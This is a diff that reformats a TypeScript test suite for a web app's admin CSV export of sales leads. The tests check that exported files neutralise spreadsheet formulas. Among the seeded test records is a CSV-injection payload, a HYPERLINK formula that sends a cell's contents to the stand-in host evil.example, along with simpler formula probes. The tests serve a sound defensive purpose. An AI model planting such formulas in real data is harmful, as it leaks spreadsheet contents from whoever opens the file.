@@ -22,12 +22,38 @@ describe('lead tools', () => {
     await insert('playbook_leads', '"name","email","company","createdAt"', ['Bea Three', 'three@example.com', 'Three Co', at(21)]);
     // CSV injection: a formula after a ';' (a ';' reader splits the cell there) and after a TAB
     // (stored around the API, which trims it).
-    await insert('playbook_leads', '"name","email","company","createdAt"', ['Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")', 'bob@example.com', '\t=1+2', at(400)]);
-    await insert('contact_requests', '"name","email","company","cloudSpending","message","privacyConsent","createdAt"', [
-      'Cy Week', 'week@example.com', 'Week Co', '50k-100k', 'Hello, "quoted", and\nmulti-line', true, at(7),
+    await insert('playbook_leads', '"name","email","company","createdAt"', [
+      'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")',
+      'bob@example.com',
+      '\t=1+2',
+      at(400),
     ]);
-    await server.agent().post('/api/playbook-lead').send(validLead({ name: 'Dee Now', email: 'now@example.com', company: '=HYPERLINK("x")' })).expect(201);
-    await server.agent().post('/api/contact').send(validContact({ name: 'Eve Now', email: 'eve@example.com', company: 'Ünïcødé GmbH', toolResults: { tool: 'simulator', summary: 'Simulator: $670/month' } })).expect(201);
+    await insert('contact_requests', '"name","email","company","cloudSpending","message","privacyConsent","createdAt"', [
+      'Cy Week',
+      'week@example.com',
+      'Week Co',
+      '50k-100k',
+      'Hello, "quoted", and\nmulti-line',
+      true,
+      at(7),
+    ]);
+    await server
+      .agent()
+      .post('/api/playbook-lead')
+      .send(validLead({ name: 'Dee Now', email: 'now@example.com', company: '=HYPERLINK("x")' }))
+      .expect(201);
+    await server
+      .agent()
+      .post('/api/contact')
+      .send(
+        validContact({
+          name: 'Eve Now',
+          email: 'eve@example.com',
+          company: 'Ünïcødé GmbH',
+          toolResults: { tool: 'simulator', summary: 'Simulator: $670/month' },
+        }),
+      )
+      .expect(201);
   }, START_TIMEOUT);
   afterAll(() => server.close());
 
@@ -53,11 +79,14 @@ describe('lead tools', () => {
   });
 
   it('exports playbook leads as UTF-8 CSV with a header, newest first, formulas neutralised', async () => {
-    const res = await admin.get('/api/admin/playbook-leads/export.csv').buffer(true).parse((r, cb) => {
-      const chunks: Buffer[] = [];
-      r.on('data', (c: Buffer) => chunks.push(c));
-      r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
-    });
+    const res = await admin
+      .get('/api/admin/playbook-leads/export.csv')
+      .buffer(true)
+      .parse((r, cb) => {
+        const chunks: Buffer[] = [];
+        r.on('data', (c: Buffer) => chunks.push(c));
+        r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
+      });
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="playbook-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -65,7 +94,12 @@ describe('lead tools', () => {
     expect(text.startsWith('\uFEFF')).toBe(true);
     const rows = parse(text.slice(1)) as string[][];
     expect(rows[0]).toEqual(['Name', 'Email', 'Company', 'Date']);
-    expect(rows.slice(1).map((r) => r[0])).toEqual(['Dee Now', 'Bea Three', 'Ann Old', `'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")`]);
+    expect(rows.slice(1).map((r) => r[0])).toEqual([
+      'Dee Now',
+      'Bea Three',
+      'Ann Old',
+      `'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")`,
+    ]);
     expect(rows[1][2]).toBe(`'=HYPERLINK("x")`);
     expect(rows[4][2]).toBe(`'\t=1+2`);
   });
